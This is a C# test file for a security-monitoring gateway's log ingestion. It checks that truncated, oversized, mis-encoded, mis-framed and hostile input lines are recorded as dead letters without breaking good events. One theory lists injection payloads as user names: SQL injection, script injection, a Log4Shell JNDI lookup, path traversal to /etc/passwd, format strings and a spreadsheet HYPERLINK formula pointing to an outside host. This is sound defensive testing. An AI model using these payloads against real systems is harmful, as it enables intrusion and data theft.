using System.Text;
using Shouldly;
using Soc.Gateway.Tests.Ingest.Product;

namespace Soc.Gateway.Tests.Ingest.BadInput;

/// <summary>Truncated, oversized, mis-encoded, mis-framed and hostile lines: told and kept, and the good ones beside them come through.</summary>
[Collection(ProductCollection.Name)]
public sealed class BadLineTests(SharedProduct shared)
{
    private static readonly DateTimeOffset Now = TimeProvider.System.GetUtcNow();

    private RunningProduct Product => shared.Product;

    [Fact]
    public async Task Truncated_OverHec()
    {
        var (client, token) = await Product.NewClientAsync();
        var whole = Duo("anna", 1);
        var body = string.Join('\n', Enumerable.Range(1, whole.Length - 1).Select(n => whole[..n]).Append(Duo("ben", 2)));
        (await Product.HecAsync("raw?sourcetype=duo", body, token)).ShouldBe((200, 0));
        (await Product.CountedAsync(client, whole.Length)).ShouldBe(new Counts(whole.Length, 1, 0, whole.Length - 1, 1));
        (await Product.DeadLettersAsync(client)).ShouldContain(("json_truncated", whole[..^1], whole.Length - 1));
    }

    [Fact]
    public async Task Truncated_OverSyslog()
    {
        var before = await BeforeAsync();
        await Product.TcpAsync(Utf8($"{Sshd("anna", 1)}\n500 {Sshd("cut in the middle", 2)}"));
        await AfterAsync(before, events: 1, ("truncated", "cut in the middle"));
    }

    [Fact]
    public async Task Oversized_OverHec()
    {
        var (client, token) = await Product.NewClientAsync();
        var body = $"{Duo("anna", 1)}\n{new string('x', 150_000)}\n{Duo("ben", 2)}";
        (await Product.HecAsync("raw?sourcetype=duo", body, token)).ShouldBe((200, 0));
        (await Product.CountedAsync(client, 3)).ShouldBe(new Counts(3, 2, 0, 1, 2));
        var letter = (await Product.DeadLettersAsync(client)).ShouldHaveSingleItem();
        (letter.Reason, letter.Raw.Length, letter.RawLength).ShouldBe(("oversized", 65_536, 150_000));
        (await Product.HecAsync("raw?sourcetype=duo", new string('x', 2_100_000), token)).ShouldBe((413, 27));
    }

    [Fact]
    public async Task Oversized_OverSyslog_ByTcpAndUdp()
    {
        var before = await BeforeAsync();
        var large = "<38>large " + new string('x', 5_000);
        await Product.TcpAsync(Utf8($"{large}\n{Sshd("anna", 10)}\n{large.Length} {large}{Sshd("ben", 11)}\n"));
        await Product.UdpAsync(Utf8(large), Utf8(Sshd("carl", 12)));
        await AfterAsync(before, events: 3, ("oversized", "<38>large"), ("oversized", "<38>large"), ("oversized", "<38>large"));
    }

    [Fact]
    public async Task MisEncoded_OverHec()
    {
        var (client, token) = await Product.NewClientAsync();
        byte[] latin1 = Encoding.Latin1.GetBytes(Duo("jörg", 1));
        byte[] utf16 = Encoding.Unicode.GetBytes(Duo("anna", 2));
        byte[] body = [.. latin1, (byte)'\n', .. utf16, (byte)'\n', 0xFF, 0xFE, 0x00, (byte)'\n', .. Utf8(Duo("ben", 3))];
        (await Product.HecAsync("raw?sourcetype=duo", body, token)).ShouldBe((200, 0));
        var counts = await Product.CountedAsync(client, 4);
        counts.Events.ShouldBe(2, "a name in Latin-1 spoils its letter, not its event");
        counts.Malformed.ShouldBe(counts.Records - 2);
        (await Product.EntityAsync(client, "user", "ben")).GetProperty("eventCount").GetInt64().ShouldBe(1);
        (await Product.EntityAsync(client, "user", "j\uFFFDrg")).GetProperty("eventCount").GetInt64().ShouldBe(1);
    }

    [Fact]
    public async Task MisEncoded_OverSyslog()
    {
        var before = await BeforeAsync();
        byte[] latin1 = Encoding.Latin1.GetBytes(Sshd("jörg", 20));
        await Product.TcpAsync(new byte[][] { latin1, [(byte)'\n', 0xC3, 0x28, 0xFF, 0x80, (byte)'\n'], Utf8(Sshd("ben", 21)), "\n"u8.ToArray() }.SelectMany(b => b).ToArray());
        await AfterAsync(before, events: 2, ("unrecognised", "\uFFFD"));
    }

    [Fact]
    public async Task MisFramed_TheNextFrameIsFound()
    {
        var before = await BeforeAsync();
        var one = Sshd("anna", 30);
        await Product.TcpAsync(Utf8($"\r\n\0 {one.Length} {one}\n{one.Length - 5} {Sshd("shortcounted", 31)}\n007 not a length\n{Sshd("carl", 32)}\n"));

        // A count too small cuts its line: the rest of it is a line of its own that nobody knows.
        var counts = await Product.CountedAsync("demo", before.Counts.Records + 5);
        (counts.Events - before.Counts.Events).ShouldBe(3);
        (counts.Malformed - before.Counts.Malformed).ShouldBe(2);
    }

    [Fact]
    public async Task Hostile_ALengthThatNobodyCanMean_EndsItsConnectionOnly_AndHealthSaysSo()
    {
        var before = await BeforeAsync();
        await Product.TcpAsync(Utf8($"{Sshd("anna", 40)}\n999999999 {Sshd("lost", 41)}"));
        await Product.TcpAsync(Utf8(Sshd("ben", 42) + "\n"));
        await AfterAsync(before, events: 2);
        (await Product.ProblemsAsync()).ShouldContain(p => p.Contains("announced a length", StringComparison.Ordinal));
        await Product.MetricsSayAsync("reason=\"frame_length\"");
    }

    [Theory]
    [InlineData("'; DROP TABLE users; --")]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("${jndi:ldap://203.0.113.1/a}")]
    [InlineData("../../../../etc/passwd")]
    [InlineData("%s%s%s%n")]
    [InlineData("{0}{1}{2}")]
    [InlineData("root from 198.51.100.1 port 1 ssh2")]
    [InlineData("anna\u202Enosnhoj")]
    [InlineData("=HYPERLINK(\"http://203.0.113.1\")")]
    public async Task Hostile_NamesAreText_AndNothingElse(string name)
    {
        var (client, token) = await Product.NewClientAsync();
        (await Product.HecAsync("raw?sourcetype=duo", Duo(name, 1), token)).ShouldBe((200, 0));
        (await Product.HecAsync("raw?sourcetype=syslog", Sshd(name, 2), token)).ShouldBe((200, 0));
        (await Product.CountedAsync(client, 2)).ShouldBe(new Counts(2, 2, 0, 0, 2));

        // The address is the one that sshd saw, whatever the name pretends.
        (await Product.EntityAsync(client, "address", "203.0.113.2")).GetProperty("eventCount").GetInt64().ShouldBe(1);
    }

    [Fact]
    public async Task Hostile_DepthAndWidth_AreHarmless()
    {
        var (client, token) = await Product.NewClientAsync();
        var deep = new string('[', 40_000);
        var wide = "{" + string.Join(',', Enumerable.Range(0, 4_000).Select(i => $"\"key{i}\":{i}")) + "}";
        var lines = "<38>" + new string('=', 50_000);
        (await Product.HecAsync("raw", $"{deep}\n{wide}\n{lines}\n{Duo("anna", 1)}", token)).ShouldBe((200, 0));
        var counts = await Product.CountedAsync(client, 4);
        counts.Events.ShouldBe(1);
        (counts.Malformed + counts.Skipped).ShouldBe(3);
    }

    private static string Duo(string user, int number) => Lines.Duo(user, "203.0.113.1", $"tx-{number}", Now.ToUnixTimeSeconds());

    private static string Sshd(string user, int number) => Lines.Sshd(user, $"203.0.113.{number}", Now, 4000 + number);

    private static byte[] Utf8(string text) => Encoding.UTF8.GetBytes(text);

    private async Task<(Counts Counts, int Letters)> BeforeAsync() => (await Product.CountedAsync("demo", 0), (await Product.DeadLettersAsync("demo")).Length);

    /// <summary>So many events and these dead letters more, and nothing else.</summary>
    private async Task AfterAsync((Counts Counts, int Letters) before, int events, params (string Reason, string Start)[] letters)
    {
        var counts = await Product.CountedAsync("demo", before.Counts.Records + events + letters.Length);
        (counts.Events - before.Counts.Events).ShouldBe(events);
        (counts.Malformed - before.Counts.Malformed).ShouldBe(letters.Length);
        var kept = (await Product.DeadLettersAsync("demo"))[before.Letters..];
        kept.Select(l => l.Reason).ShouldBe(letters.Select(l => l.Reason));
        kept.Zip(letters).ShouldAllBe(p => p.First.Raw.Contains(p.Second.Start, StringComparison.Ordinal));
    }
}
